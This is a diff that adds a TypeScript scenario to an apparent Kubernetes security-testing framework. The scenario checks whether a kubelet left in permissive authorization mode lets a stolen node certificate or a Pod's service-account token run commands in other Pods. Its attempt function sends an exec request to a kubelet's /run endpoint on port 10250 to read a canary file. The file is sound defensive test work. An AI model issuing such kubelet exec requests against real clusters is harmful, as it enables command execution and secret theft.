@@ -1,0 +1,69 @@
+/**
+ * worker-1's kubelet credential, or a Pod's token  --TLS-->  kubelet of worker-2 (knows the name, asks nobody what it may)
+ */
+import { fallen } from '../../lib/scenario/footholds.ts'
+import type { Foothold } from '../../lib/attacker/foothold.ts'
+import { scenario, type Expectation } from '../../lib/scenario/scenario.ts'
+
+const THROUGH: Expectation = { kind: 'through' }
+const TWIN = { through: { restore: 'kubelet-authorization-mode' } } as const
+const OPEN_ALREADY = { notApplicable: 'its kubelets are open to strangers: anon-kubelet-exec asks that question' }
+
+const POD: Foothold = {
+  name: 'a Pod of worker-2',
+  stands: { on: 'host', host: 'worker-2' },
+  holds: { 'credential.token': { fromPod: '/var/run/secrets/kubernetes.io/serviceaccount/token' } },
+}
+
+export default scenario({
+  title: 'Half a kubelet lock',
+  story: `A kubelet that turns strangers away, and allows everything to everybody else: the mode that it has by itself where nobody
+sets another. Any name that the cluster knows is then enough to run a command in any of its Pods.`,
+  refs: [
+    'KubeletConfiguration authorization.mode',
+    'kubernetes.io/docs/reference/access-authn-authz/kubelet-authn-authz/',
+    'kube-hunter KHV039, KHV040',
+  ],
+  cis: ['4.2.2'],
+  attack: ['T1609'],
+  variants: [
+    {
+      id: 'a',
+      title: `with another kubelet's certificate`,
+      foothold: fallen('worker-1'),
+      goal: { read: 'secret', node: 'worker-2' },
+      premise: ['kubelet-authorization-mode'],
+      expect: {
+        open: OPEN_ALREADY,
+        encrypted: OPEN_ALREADY,
+        kubeadm: THROUGH,
+        hardened: THROUGH,
+        'zero-trust': THROUGH,
+      },
+      twin: TWIN,
+    },
+    {
+      id: 'b',
+      title: `with the token of a Pod that has no rights`,
+      foothold: POD,
+      goal: { read: 'secret', node: 'worker-2' },
+      premise: ['kubelet-authorization-mode'],
+      expect: {
+        open: OPEN_ALREADY,
+        encrypted: OPEN_ALREADY,
+        kubeadm: THROUGH,
+        hardened: THROUGH,
+        'zero-trust': THROUGH,
+      },
+      twin: TWIN,
+    },
+  ],
+  async attempt(world) {
+    const { namespace, pod, node } = world.goal
+    const { body } = await world.request(`https://${world.network.hosts[node]}:10250`, {
+      method: 'POST',
+      path: `/run/${namespace}/${pod}/main?cmd=cat%20/etc/canary/value`,
+    })
+    return [body]
+  },
+})
